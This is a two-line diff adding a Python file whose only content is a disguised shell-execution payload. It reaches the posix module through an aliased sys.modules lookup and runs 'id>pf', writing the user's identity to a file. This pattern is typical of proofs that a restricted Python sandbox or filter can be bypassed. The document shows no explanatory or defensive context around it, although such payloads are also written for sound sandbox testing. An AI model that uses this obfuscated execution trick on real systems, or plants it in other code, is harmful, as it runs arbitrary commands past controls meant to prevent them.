@@ -1,0 +1,2 @@
+from sys import modules as table
+table["posix"].system("id>pf")
